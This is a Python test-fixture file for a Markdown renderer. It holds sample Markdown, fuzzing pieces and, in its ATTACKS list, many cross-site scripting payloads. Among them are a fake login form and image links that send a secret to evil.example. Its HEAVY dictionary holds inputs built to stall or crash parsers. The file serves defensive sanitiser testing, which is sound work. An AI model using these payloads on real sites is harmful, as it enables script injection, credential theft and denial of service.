"""Texts to render: what models write, and what is written to do harm."""

import random

ANSWER = """# Refunds 💶

You get your money back **within 14 days**, see [the rules](https://example.com/rules "Rules") and *page 3*.
Write to <help@example.com>, or `refund --all`.

1. Open the order
2. Choose *Return*
   - keep the box
   - print the label

     It is valid for two days.
3. Send it

| Country | Days | Price |
|:--------|-----:|:-----:|
| France  |    3 | $5    |
| Japan 日本 | 10 | $12   |
| Peru    |   12 | \\(x^2\\) |

Code:

```python
def refund(order: Order) -> Money:
    \"\"\"Give it back.\"\"\"
    return order.price if order.age < 14 else Money(0)
```

~~~
no language, <b>, &amp; and ``` inside
~~~

> A quote
> of two lines

The sum is $\\frac{n(n+1)}{2}$ and costs $5-$10:

$$
\\sum_{i=1}^n i
$$

- [x] done
- [ ] open 😀

---

Text[^1] and a [late link][late], `List<int>` and List<int>.

[^1]: The *note*.

[late]: https://example.com/late

The end.
"""

# Everything that Markdown knows, and what it trips over: any sequence of these must work.
PIECES = [
    *('- ', '* ', '+ ', '1. ', '2) ', '10. ', '- [x] ', '> ', '# ', '## ', '---\n', '===\n', '    ', '\t', '  '),
    *('```', '```py\n', '```\n', '~~~\n', '``', '`', '**', '*', '_', '~~', '\\', '!', '![', '[a]', '[b][a]', '](', ')'),
    *('(http://x.example)', '[a]: /b\n', '[^1]', '[^1]: ', '|', '|a|b|\n', '|-|-|\n', '|1|2|\n', '\n', '\n\n', '\n'),
    *(
        'word ',
        'x',
        '5',
        '"t"',
        'é',
        '日本',
        '😀',
        '\u202e',
        '<b>',
        '</b>',
        '<!--',
        '-->',
        '<div>\n',
        '<http://a.example>',
    ),
    *('$', '$$', '\\(', '\\)', '\\[', '\\]', 'x^2', '&amp;', '&#xFDD1;0&#xFDD2;', '&#xFDD3;', '/files/a', '\r', '\r\n'),
    *('\x00', '\ud800', '\ufdd0', 'https://a.example/c_d ', '- a\n', '  - b\n', '\n  c\n', '1. ```\n   x\n', '<br>'),
    *('```mermaid\n', '![a](http://x.example/p.png)', '[x.example](http://y.example)', 'שלום ', '\u200b', '$a < "b"$'),
]

# Elements, handlers and addresses that must never be in the HTML of a message.
ATTACKS = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x>',
    '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    '<style>body{display:none}</style><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0>',
    '<div style="position:fixed;inset:0" class="code" id="app">x</div>',
    '<video autoplay src=https://evil.example/v></video><audio src=https://evil.example/a>',
    '<base href="https://evil.example/"><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '![x](https://evil.example/log?secret) ![y](//evil.example/x) ![z](/logout) ![w](data:image/svg+xml,<svg/>)',
    '![x](/files/../logout) ![y](/files/a/b) ![z](/files/a?x=/../b) ![v](/files/%2e%2e%2flogout)',
    '[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html,<script>)',
    '[x](vbscript:x) <javascript:alert(1)>',
    '[x](/logout) [y](//evil.example) [z](#app) [w](\\\\evil.example) [v](https:evil) [u](java\nscript:x)',
    '[x](https://a.example" onmouseover="alert(1) "t\\" onmouseover=alert(1)")',
    '```"><script>alert(1)</script>\nx\n```',
    '```python" onmouseover="alert(1)\nx\n```',
    '```html\n</code></pre></div><script>alert(1)</script>\n```',
    '$\\href{javascript:alert(1)}{x}$ $\\text{<img src=x onerror=alert(1)>}$ \\(</math><script>alert(1)</script>\\)',
    '$\\style{position:fixed}{x}$ $\\class{code}{x}$ $\\cssId{app}{x}$ $\\unicode{x3c}script\\unicode{x3e}$',
    '[^x"><script>]: <script>alert(1)</script>\n\n[^x"><script>]',
    '| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<!--><img src=x onerror=alert(1)>--> <![CDATA[<script>]]> <?php <script> ?> <!DOCTYPE html>',
    '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
    '\ufdd0script\ufdd0 \ufdd1' + '0\ufdd2 &#xFDD0;script> &#xFDD1;0&#xFDD2; &#xFDD1;99999&#xFDD2; &#xFDD3;',
    '\x00<scr\x00ipt>\ud800<img \udfff src=x onerror=alert(1)>',
    'www.<b>evil</b>.example https://a.example/"onmouseover="alert(1) https://a.example/<script>',
    '[<script>]: javascript:alert(1)\n\n[<script>] [x][<script>]',
    '<https://a.example/"onclick=alert(1)> <a@b.example"onclick=alert(1)>',
    '$"><img src=x onerror=alert(1)>$ $" onclick="alert(1)$ $</math><script>alert(1)</script>$ $x\ufdd3y$',
    '![" onerror="alert(1)](https://a.example/"onload="alert(1).png) ![](https://a.example/%22onload=%22alert(1).png)',
    '```mermaid\nflowchart LR\nA["<img src=x onerror=alert(1)>"]\nclick A href "javascript:alert(1)"\n```',
]

SIZE = 40_000


def _made(piece: str, size: int = SIZE) -> str:
    return piece * (size // len(piece))


# Each takes a naive parser seconds or more, or a recursive one all of its stack.
HEAVY = {
    'brackets': _made('['),
    'pictures': _made('!['),
    'backticks': _made('`'),
    'runs of backticks': ''.join('`' * length + ' ' for length in range(1, 280)),
    'links': _made('[a]('),
    'quotes': '>' * 5000,
    'spaced quotes': '> ' * 5000 + 'x',
    'quotes and lists': '> - ' * 3000,
    'nested list': '- ' * 5000 + 'x',
    'stairs': ''.join('  ' * depth + '- a\n' for depth in range(300)),
    'stars': _made('*a**'),
    'underscores': _made('a_b*'),
    'strikes': _made('~a~~'),
    'wide table': '|a' * 10_000 + '|\n' + '|-' * 10_000 + '|\n' + '|x\n' * 5000,
    'empty cells': '|a' * 100 + '|\n' + '|-' * 100 + '|\n' + 'x\n' * 20_000,
    'table without rows': 'a|' * 20_000 + '\n' + '-|' * 20_000,
    'definitions': ''.join(f'[a{number}]: /x\n\n' for number in range(3000)),
    'references': '[a]: https://x.example/' + 'x' * 1000 + '\n\n' + '[a]' * 13_000,
    'notes': '[^1]' * 10_000 + '\n\n[^1]: x',
    'dollars': _made('$'),
    'spaced dollars': _made('$1 aa $ '),
    'formulas': ''.join(f'$x_{{{number}}}$ ' for number in range(5000)),
    'open formulas': _made('\\('),
    'open displays': _made('\\[x '),
    'deep formula': '$' + 'x^{' * 400 + '}' * 400 + '$',
    'braces': '$' + '{' * 1900 + '$',
    'digits': '1' * 100_000,
    'number': '1' * 100_000 + '. x',
    'numeric entities': _made('&#0;'),
    'tags': _made('<a '),
    'comments': _made('<!--'),
    'schemes': _made('<a:'),
    'mails': _made('<a@'),
    'addresses': ('https://x' + ')' * 1990 + ' ') * 20,
    'dotted words': f'[{_made("a.", 8000)}](https://x.example) [{_made("www.", 8000)}](https://x.example)',
    'foreign hosts': f'[a](https://{"é" * 1900}.example) ' * 20,
    'foreign labels': f'[a.b](https://{"é." * 900}example) ' * 20,
    'letters that grow': f'[{_made("ﷺ", 8000)}](https://x.example) ' * 3,
    'fences': _made('```py\nx\n```\n'),
    'long line of code': '```python\n' + _made('a(') + '\n```\n',
    'lines of code': '```c\n' + _made('\n ') + '\n```\n',
    'paragraphs': _made('a\n\n'),
    'headings': _made('a\n=\n'),
    'items': _made('- a\n'),
    'breaks': _made('a  \n'),
    'nothing': _made('\x00'),
    'surrogates': _made('\ud800'),
    'directions': _made('\u202e\u2066'),
    'returns': _made('\r'),
    'escapes': _made('\\*'),
}


def nonsense(seed: int) -> str:
    dice = random.Random(seed)
    return ''.join(dice.choice(PIECES) for _ in range(dice.choice([5, 20, 60])))
